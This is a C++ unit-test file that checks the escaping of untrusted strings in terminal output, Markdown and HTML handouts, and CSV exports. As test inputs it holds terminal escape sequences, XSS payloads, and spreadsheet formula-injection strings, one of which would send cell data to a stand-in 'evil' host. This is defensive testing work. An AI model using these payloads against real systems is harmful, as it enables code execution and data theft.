// Output hygiene (issue 34, "Deliver 4"): what the programs show of a file's strings. printable()
// for terminals and the window, the Markdown handout's escaping, CSV cells that a spreadsheet
// would run as formulas, and the mode of a new lesson folder.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <string>

#include "base/file_set.h"
#include "base/printable.h"
#include "plot/csv_export.h"
#include "report/handout.h"
#include "report/markdown_text.h"
#include "report/timeline_table.h"

namespace {

bool has_control_byte(const std::string& s, bool allow_newline) {
    for (unsigned char c : s)
        if (c == 0x7F || (c < 0x20 && !(allow_newline && (c == '\n' || c == '\t')))) return true;
    return false;
}

// [SECTION] printable

TEST(Printable, EscapesTerminalControlSequences) {
    const std::string osc52 = "\x1b]52;c;ZWNobyBwd25lZAo=\x07";
    EXPECT_EQ(kl::printable(osc52), "\\x1b]52;c;ZWNobyBwd25lZAo=\\x07");
    EXPECT_EQ(kl::printable("\x1b]0;title\x1b\\"), "\\x1b]0;title\\x1b\\");
    EXPECT_EQ(kl::printable("clear\x1b[2J\x1b[H"), "clear\\x1b[2J\\x1b[H");
    EXPECT_EQ(kl::printable("a\tb\nc\rd\x7f"), "a\\tb\\nc\\rd\\x7f");
    // C1 controls in their UTF-8 form (U+009B is CSI), and bidirectional overrides.
    EXPECT_EQ(kl::printable("x\xC2\x9B"
                            "2Jy"),
              "x\\u009b2Jy");
    EXPECT_EQ(kl::printable("abc\xE2\x80\xAE"
                            "fdp.exe"),
              "abc\\u202efdp.exe");
    EXPECT_EQ(kl::printable(std::string("nul\0byte", 8)), "nul\\x00byte");
}

TEST(Printable, KeepsTextAndValidUtf8) {
    EXPECT_EQ(kl::printable("NVIDIA H100 80GB HBM3"), "NVIDIA H100 80GB HBM3");
    EXPECT_EQ(kl::printable("µs · 4×4 — ok ✓ 😀"), "µs · 4×4 — ok ✓ 😀");
    EXPECT_EQ(kl::printable(""), "");
}

TEST(Printable, EscapesEachInvalidUtf8Byte) {
    EXPECT_EQ(kl::printable("a\xFF"
                            "b"),
              "a\\xffb");
    EXPECT_EQ(kl::printable("\xC0\xAF"), "\\xc0\\xaf");                    // overlong '/'
    EXPECT_EQ(kl::printable("\xED\xA0\x80"), "\\xed\\xa0\\x80");           // a surrogate
    EXPECT_EQ(kl::printable("\xF4\x90\x80\x80"), "\\xf4\\x90\\x80\\x80");  // above U+10FFFF
    EXPECT_EQ(kl::printable("cut \xE2\x82"), "cut \\xe2\\x82");            // a sequence cut short
    EXPECT_EQ(kl::printable("\x9B"), "\\x9b");                             // a raw 8-bit CSI
}

TEST(Printable, LinesKeepLineBreaksAndTabsOnly) {
    EXPECT_EQ(kl::printable_lines("a.cu:3: error\n\tint x;\x1b[2J\r\n"), "a.cu:3: error\n\tint x;\\x1b[2J\\r\n");
}

TEST(Printable, CapsAtCharactersWithAnEllipsis) {
    const std::string name(1000000, 'G');
    const std::string shown = kl::printable(name, kl::kDeviceNameChars);
    EXPECT_EQ(shown, std::string(kl::kDeviceNameChars - 1, 'G') + "\xE2\x80\xA6");
    EXPECT_EQ(kl::printable(std::string(200, 'x'), 200), std::string(200, 'x'));  // exactly the cap: whole
    EXPECT_EQ(kl::printable("ééé", 2), "é\xE2\x80\xA6");                          // cut between characters
    EXPECT_EQ(kl::printable("abc", 0), "");
}

TEST(Printable, ResultIsCleanAndStable) {
    std::string all;
    for (int c = 0; c < 256; ++c) all += static_cast<char>(c);
    const std::string once = kl::printable(all);
    EXPECT_FALSE(has_control_byte(once, false)) << once;
    EXPECT_EQ(kl::printable(once), once);
    EXPECT_FALSE(has_control_byte(kl::printable_lines(all), true));
}

// [SECTION] Markdown

TEST(MarkdownText, NeverBecomesMarkdownOrHtml) {
    const std::string md = kl::report::markdown_text("![x](http://evil/x.png)");
    EXPECT_EQ(md, "\\!\\[x\\]\\(http\\://evil/x.png\\)");
    EXPECT_EQ(kl::report::markdown_text("<script>alert(1)</script>"), "&lt;script&gt;alert\\(1\\)&lt;/script&gt;");
    EXPECT_EQ(kl::report::markdown_text("a|b *c* _d_ `e` #f \\g ~h~ & www.x.org"),
              "a\\|b \\*c\\* \\_d\\_ \\`e\\` \\#f \\\\g \\~h\\~ &amp; www\\.x.org");
    EXPECT_EQ(kl::report::markdown_text("two\nlines\x1b[2J"), "two lines\\\\x1b\\[2J");
}

// The HTML md4c makes of markdown_text() holds the characters as text: no image, no link, no tag.
TEST(MarkdownText, RendersAsTheSameCharacters) {
    const std::string html =
        kl::report::markdown_to_html(kl::report::markdown_text("![x](http://evil/x.png) <b>x</b> www.evil.org"), "t");
    EXPECT_EQ(html.find("<img"), std::string::npos) << html;
    EXPECT_EQ(html.find("<a "), std::string::npos) << html;
    EXPECT_EQ(html.find("<b>"), std::string::npos) << html;
    EXPECT_NE(html.find("![x](http://evil/x.png) &lt;b&gt;x&lt;/b&gt; www.evil.org"), std::string::npos) << html;
}

TEST(MarkdownProse, EscapesRawHtmlAndKeepsMarkdown) {
    using kl::report::markdown_prose;
    EXPECT_EQ(markdown_prose("**bold** <script>alert(1)</script> [l](https://x.org)"),
              "**bold** &lt;script>alert(1)&lt;/script> [l](https://x.org)");
    EXPECT_EQ(markdown_prose("<img src=x onerror=alert(1)>"), "&lt;img src=x onerror=alert(1)>");
    EXPECT_EQ(markdown_prose("<!DOCTYPE x> <?php ?> <![CDATA[x]]>"), "&lt;!DOCTYPE x> &lt;?php ?> &lt;![CDATA[x]]>");
    // Kept: a < that opens nothing, comments, http(s)/mailto autolinks, escaped and code text.
    EXPECT_EQ(markdown_prose("if a < b and 3<4"), "if a < b and 3<4");
    EXPECT_EQ(markdown_prose("<!-- reveal -->"), "<!-- reveal -->");
    EXPECT_EQ(markdown_prose("<!-- x --><b>"), "<!-- x -->&lt;b>");
    EXPECT_EQ(markdown_prose("<https://x.org/a> <javascript:alert(1)>"), "<https://x.org/a> &lt;javascript:alert(1)>");
    EXPECT_EQ(markdown_prose("\\<b> `a<b>` ``x ` <i>``"), "\\<b> `a<b>` ``x ` <i>``");
    EXPECT_EQ(markdown_prose("`unclosed <b>"), "`unclosed &lt;b>");
}

TEST(MarkdownProse, FencedCodeStaysAndOnlyAtColumnZero) {
    using kl::report::markdown_prose;
    const std::string fenced = "text\n```cpp\nf<<<g, b>>>(x); static_cast<int>(y);\n```\n<b>after</b>\n";
    EXPECT_EQ(markdown_prose(fenced), "text\n```cpp\nf<<<g, b>>>(x); static_cast<int>(y);\n```\n&lt;b>after&lt;/b>\n");
    // An indented fence may sit in a list item that ends at the next unindented line, where a
    // renderer reads HTML: escaped as prose.
    EXPECT_EQ(markdown_prose("- item\n  ```\n<script>x</script>\n"), "- item\n  ```\n&lt;script>x&lt;/script>\n");
    // After "**Predict:** " the first line is not a line start: no fence opens there.
    EXPECT_EQ(markdown_prose("```\n<b>", false), "```\n&lt;b>");
    EXPECT_EQ(markdown_prose("```\n<b>", true), "```\n<b>");
}

TEST(MarkdownCodeCell, StaysOneCodeSpanInOneCell) {
    using kl::report::markdown_code_cell;
    EXPECT_EQ(markdown_code_cell("void k<float, 4>(float*)"), "`void k<float, 4>(float*)`");
    EXPECT_EQ(markdown_code_cell("a`b|c\nd"), "``a`b\\|c d``");
    EXPECT_EQ(markdown_code_cell("`x`"), "`` `x` ``");
}

TEST(Handout, ResultsAndTitlesNeverBecomeMarkdown) {
    kl::Lesson lesson;
    lesson.number = 7;
    lesson.title = "<script>alert('t')</script>";
    lesson.summary = "Prose *stays* Markdown, <iframe src=x></iframe> does not.";
    kl::LessonStep step;
    step.title = "![s](http://evil/s.png)";
    step.text = "Text <img src=x onerror=alert(1)>\n\n```\nvector<float> v;\n```\n";
    step.question = "Why <b>?";
    step.answer = "Because <svg onload=alert(2)>.";
    lesson.steps = {step};
    kl::report::HandoutInput in;
    in.lesson = &lesson;
    in.results_name = "results.json";
    in.source = "![x](http://evil/x.png)<script>alert(3)</script>, measured 2026-11-28";
    in.step_figures.resize(1);
    in.number_sources = {"[a](javascript:alert(4)) on <b>dev</b>"};
    const std::string md = kl::report::handout_markdown(in);
    for (const char* live : {"<script", "<img", "<svg", "<iframe", "<b>", "](http://evil", "](javascript"})
        EXPECT_EQ(md.find(live), std::string::npos) << live << " in\n" << md;
    EXPECT_NE(md.find("Prose *stays* Markdown"), std::string::npos) << md;
    EXPECT_NE(md.find("```\nvector<float> v;\n```"), std::string::npos) << md;
    EXPECT_NE(md.find("\\!\\[x\\]\\(http\\://evil/x.png\\)"), std::string::npos) << md;
}

TEST(TimelineTable, KernelNamesStayCodeAndCsvCellsStayText) {
    kl::RunRecord r;
    r.timeline = kl::make_timeline({{"k`|<b>", 1, 2}, {"=cmd|' /C calc'!A0", 3, 4}}, 0.004);
    const std::string md = kl::report::timeline_markdown(r);
    EXPECT_NE(md.find("| ``k`\\|<b>`` |"), std::string::npos) << md;
    const std::string csv = kl::report::timeline_csv(r);
    EXPECT_NE(csv.find("\"'=cmd|' /C calc'!A0\",2.000"), std::string::npos) << csv;
}

// [SECTION] CSV

TEST(CsvCells, FormulasAreNeutralisedNumbersAreNot) {
    using kl::plot::csv_field;
    EXPECT_EQ(csv_field("=HYPERLINK(\"http://evil\")"), "\"'=HYPERLINK(\"\"http://evil\"\")\"");
    EXPECT_EQ(csv_field("+1+cmd|' /C calc'!A0"), "'+1+cmd|' /C calc'!A0");
    EXPECT_EQ(csv_field("-2+3"), "'-2+3");
    EXPECT_EQ(csv_field("@SUM(A1)"), "'@SUM(A1)");
    EXPECT_EQ(csv_field("\t=1"), "'\t=1");
    EXPECT_EQ(csv_field("\r=1"), "\"'\r=1\"");
    EXPECT_EQ(csv_field("-inf"), "'-inf");  // text, not a number the program wrote
    for (const char* number : {"-3", "+1.5e3", "-0.25", "-.5", "1e-7", "42"}) EXPECT_EQ(csv_field(number), number);
    EXPECT_EQ(csv_field("GB/s"), "GB/s");
    EXPECT_EQ(kl::plot::csv_number(-2.5), "-2.5");  // numbers are written by csv_number, untouched
}

TEST(CsvCells, FigureLabelsFromFilesAreNeutralised) {
    kl::plot::Figure f;
    kl::plot::Series s;
    s.name = "=WEBSERVICE(\"http://evil/\"&A1)";
    s.points = {{-1.0, -2.0}};
    f.series = {s};
    const std::string csv = kl::plot::figure_to_csv(f);
    EXPECT_NE(csv.find(",\"'=WEBSERVICE("), std::string::npos) << csv;
    EXPECT_NE(csv.find(",-1,,-2,"), std::string::npos) << csv;  // the point's numbers stay numbers
}

// [SECTION] Folder mode

TEST(FolderMode, UsualModeIsTheModeMinusTheUmask) {
    const mode_t old = umask(022);
    EXPECT_EQ(kl::usual_mode(0777), mode_t(0755));
    EXPECT_EQ(kl::usual_mode(0666), mode_t(0644));
    umask(077);
    EXPECT_EQ(kl::usual_mode(0777), mode_t(0700));
    umask(old);
}

}  // namespace
